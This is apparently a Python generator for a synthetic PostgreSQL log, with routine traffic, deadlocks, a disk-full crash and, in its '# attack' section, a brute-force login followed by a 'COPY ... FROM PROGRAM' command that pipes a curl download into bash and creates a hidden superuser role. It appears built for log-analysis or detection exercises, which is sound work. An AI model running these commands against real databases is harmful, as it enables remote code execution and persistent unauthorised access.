from common import *
r=rng(113); L=[]; S=D.timedelta(seconds=1)
def a(t,p,ud,m): L.append((t.replace(microsecond=0),f' CET [{p}] {ud}{m}'))
apps=['lager@erp','web@erp','report@dwh']
st=["SELECT * FROM artikel WHERE artikel_nr = $1","UPDATE bestand SET menge = menge - $1 WHERE artikel_id = $2","SELECT k.name, sum(b.betrag) FROM kunden k JOIN buchung b USING (kunde_id) GROUP BY 1","INSERT INTO bewegung (artikel_id, menge, text) VALUES ($1, $2, $3)","REFRESH MATERIALIZED VIEW umsatz_monat"]
for d in (17,18,19):
    day=D.datetime(2025,2,d)
    for t in day_times(r,day,330,6,20,.3):
        u=r.choice(apps); p=r.randrange(1000,32000); k=r.random()
        if k<.35: a(t,p,'[unknown]@[unknown] ',f'LOG:  connection received: host=10.66.1.{r.randrange(5,12)} port={r.randrange(40000,60000)}'); a(t,p,u+' ',f'LOG:  connection authorized: user={u.split("@")[0]} database={u.split("@")[1]} application_name=JDBC')
        elif k<.7: a(t,p,u+' ',f'LOG:  duration: {r.uniform(1000,9000):.3f} ms  execute <unnamed>: {r.choice(st)}'); a(t,p,u+' ',"DETAIL:  parameters: $1 = '%d', $2 = 'O''Neill'"%r.randrange(999))
        elif k<.85: a(t,p,u+' ',f'LOG:  disconnection: session time: 0:{r.randrange(60):02d}:{r.randrange(60):02d}.{r.randrange(1000):03d} user={u.split("@")[0]} database={u.split("@")[1]} host=10.66.1.{r.randrange(5,12)} port={r.randrange(40000,60000)}')
        elif k<.93: a(t,p,u+' ',f'ERROR:  duplicate key value violates unique constraint "bewegung_pkey"'); a(t,p,u+' ',f'DETAIL:  Key (id)=({r.randrange(10**5,10**6)}) already exists.'); a(t,p,u+' ',f'STATEMENT:  {st[3]}')
        else: a(t,p,u+' ','ERROR:  canceling statement due to statement timeout'); a(t,p,u+' ',f'STATEMENT:  {st[2]}')
    for h in range(0,24):
        t=day+D.timedelta(hours=h,minutes=5); a(t,811,'','LOG:  checkpoint starting: time'); a(t+S*r.randrange(20,200),811,'',f'LOG:  checkpoint complete: wrote {r.randrange(100,9000)} buffers (2.1%); 0 WAL file(s) added, 0 removed, {r.randrange(1,9)} recycled; write=41.208 s, sync=0.012 s, total=41.300 s; sync files=80, longest=0.004 s, average=0.001 s; distance=41002 kB, estimate=52110 kB; lsn=1A/4F0012C8, redo lsn=1A/4E8812A0')
def dead(t,p):
    a(t,p,'lager@erp ','ERROR:  deadlock detected'); a(t,p,'lager@erp ',f'DETAIL:  Process {p} waits for ShareLock on transaction 88120; blocked by process {p+7}.\n\tProcess {p+7} waits for ShareLock on transaction 88119; blocked by process {p}.'); a(t,p,'lager@erp ','HINT:  See server log for query details.'); a(t,p,'lager@erp ',f'CONTEXT:  while updating tuple (1402,17) in relation "bestand"'); a(t,p,'lager@erp ',f'STATEMENT:  {st[1]}')
for d,h,m in [(17,9,14),(17,16,40),(18,10,2),(18,10,3),(19,11,55)]: dead(D.datetime(2025,2,d,h,m,20),r.randrange(1000,30000))
t=D.datetime(2025,2,18,11,30,4)
for i in range(73): a(t,r.randrange(1000,32000),r.choice(['web@erp ','web@erp ','lager@erp ']),'FATAL:  sorry, too many clients already'); t+=r.randrange(1,12)*S
# disk full
t=D.datetime(2025,2,19,4,12,33)
for i in range(19): a(t,p:=r.randrange(1000,32000),'report@dwh ',f'ERROR:  could not extend file "base/16401/24{r.randrange(100,999)}": No space left on device'); a(t,p,'report@dwh ','HINT:  Check free disk space.'); t+=r.randrange(10,60)*S
a(t,811,'','PANIC:  could not write to file "pg_wal/xlogtemp.811": No space left on device'); t+=S
a(t,801,'','LOG:  checkpointer process (PID 811) was terminated by signal 6: Aborted'); a(t,801,'','LOG:  terminating any other active server processes'); t+=2*S
a(t,801,'','LOG:  all server processes terminated; reinitializing'); t=D.datetime(2025,2,19,5,1,17)
for m in ['LOG:  database system was interrupted; last known up at 2025-02-19 04:05:41 CET','LOG:  database system was not properly shut down; automatic recovery in progress','LOG:  redo starts at 1A/4F0012C8','LOG:  redo done at 1A/5210FF18 system usage: CPU: user: 0.42 s, system: 0.31 s, elapsed: 3.70 s','LOG:  database system is ready to accept connections']: a(t,812 if 'redo' in m or 'was' in m else 801,'',m); t+=2*S
# attack
A='10.66.9.201'; t=D.datetime(2025,2,18,23,2,0)
for i in range(128): 
    u=r.choice(['postgres','postgres','admin','report']); a(t,p:=r.randrange(1000,32000),f'{u}@postgres ',f'FATAL:  password authentication failed for user "{u}"'); a(t,p,f'{u}@postgres ','DETAIL:  Connection matched pg_hba.conf line 97: "host all all 10.66.0.0/16 scram-sha-256"' if u!='admin' else 'DETAIL:  Role "admin" does not exist.'); t+=r.randrange(1,4)*S
a(t,15120,'[unknown]@[unknown] ',f'LOG:  connection received: host={A} port=44120'); a(t,15120,'postgres@postgres ','LOG:  connection authorized: user=postgres database=postgres application_name=psql'); t+=41*S
a(t,15120,'postgres@postgres ',"ERROR:  relation \"cmd_out\" does not exist at character 13"); a(t,15120,'postgres@postgres ','STATEMENT:  select * from cmd_out;'); t+=30*S
a(t,15120,'postgres@postgres ',"LOG:  statement: CREATE TABLE cmd_out(o text);"); t+=5*S
a(t,15120,'postgres@postgres ',"LOG:  statement: COPY cmd_out FROM PROGRAM 'id; curl -s http://10.66.9.201:8000/k.sh | bash';"); t+=51*S
a(t,15120,'postgres@postgres ',"LOG:  statement: CREATE ROLE monitor_ro LOGIN SUPERUSER PASSWORD <REDACTED>;"); t+=22*S
a(t,15120,'postgres@postgres ',"LOG:  statement: DROP TABLE cmd_out;"); t+=300*S
a(t,15120,'postgres@postgres ',f'LOG:  disconnection: session time: 0:07:29.112 user=postgres database=postgres host={A} port=44120')
a(D.datetime(2025,2,17,8,3,0),2210,'report@dwh ','FATAL:  password authentication failed for user "report"'); a(D.datetime(2025,2,17,22,0,0),3310,'lager@erp ','LOG:  duration: 2714332.118 ms  statement: VACUUM (FULL, ANALYZE) bewegung;')
import itertools
L.sort(key=lambda x:x[0]); O=[]
for t,g in itertools.groupby(L,key=lambda x:x[0]):
    g=list(g)
    for ms,(_,m) in zip(sorted(r.randrange(1000) for _ in g),g): O.append(f'{t:%Y-%m-%d %H:%M:%S}.{ms:03d}{m}')
write('db/postgresql-2025-02.log',O)
